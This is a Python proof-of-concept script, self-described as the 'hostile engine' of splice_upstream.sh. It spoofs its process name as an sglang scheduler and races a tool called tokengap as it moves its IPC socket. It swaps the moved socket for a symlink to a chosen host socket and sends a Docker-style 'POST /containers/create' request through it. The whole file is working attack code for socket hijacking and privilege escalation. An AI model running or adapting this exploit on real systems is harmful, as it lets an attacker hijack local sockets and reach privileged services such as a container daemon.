"""Hostile engine of splice_upstream.sh. Once tokengap has moved its socket aside, it replaces the moved socket by a link to the socket
HOST, and connects to tokengap. splice_upstream_engine.py FOLDER HOST"""
import os
import socket
import sys
import threading
import time

import setproctitle
import zmq

folder, host = sys.argv[1], sys.argv[2]
path = f"{folder}/tmp4711"
pid = os.fork()
if pid == 0:
    setproctitle.setproctitle("sglang::scheduler")
    sender = zmq.Context().socket(zmq.PUSH)
    sender.connect("ipc://" + path)
    while os.getppid() != 1:
        sender.send(b"x" * 200)
        time.sleep(0.05)
    os._exit(0)
receiver = zmq.Context().socket(zmq.PULL)
receiver.bind("ipc://" + path)
print("PIDS", pid, os.getpid(), flush=True)


def attack():
    moved = path + ".engine-1"
    while not os.path.lexists(moved):
        time.sleep(0.01)
    time.sleep(3)
    os.rename(moved, path + ".mine")
    os.symlink(host, moved)
    print("engine: replaced the moved socket", flush=True)
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(3)
    client.connect(path)
    try:
        client.sendall(b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n")
        print("engine: received", client.recv(200), flush=True)
    except OSError as error:
        print("engine: no answer:", error, flush=True)
    client.close()
    os.unlink(moved)
    os.rename(path + ".mine", moved)


threading.Thread(target=attack, daemon=True).start()
poller = zmq.Poller()
poller.register(receiver, zmq.POLLIN)
end = time.time() + 60
while time.time() < end:
    if poller.poll(100):
        receiver.recv()
os.kill(pid, 9)
